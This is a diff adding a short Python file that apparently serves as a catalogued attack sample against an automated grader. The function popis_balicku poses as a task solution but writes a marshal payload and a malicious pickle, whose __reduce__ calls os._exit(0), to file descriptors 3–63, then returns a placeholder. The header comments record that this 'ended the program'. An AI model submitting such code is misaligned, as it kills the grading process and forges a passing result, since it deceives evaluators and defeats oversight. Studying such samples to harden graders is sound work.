@@ -1,0 +1,24 @@
+# attacks: the grader, by pickle and marshal sent in place of data
+# base: right
+# hits: 11-12
+# verdicts: ended the program
+# says: Ukončila celý pro
+import marshal
+import os
+import pickle
+import struct
+
+
+class Evil:
+    def __reduce__(self):
+        return os._exit, (0,)
+
+
+def popis_balicku(balicek):
+    for kind, data in ((b'M', marshal.dumps(compile('1', 'x', 'eval'))), (b'P', pickle.dumps(Evil()))):
+        for number in range(3, 64):
+            try:
+                os.write(number, struct.pack('>cI', kind, len(data)) + data)
+            except OSError:
+                pass
+    return '[   ]'
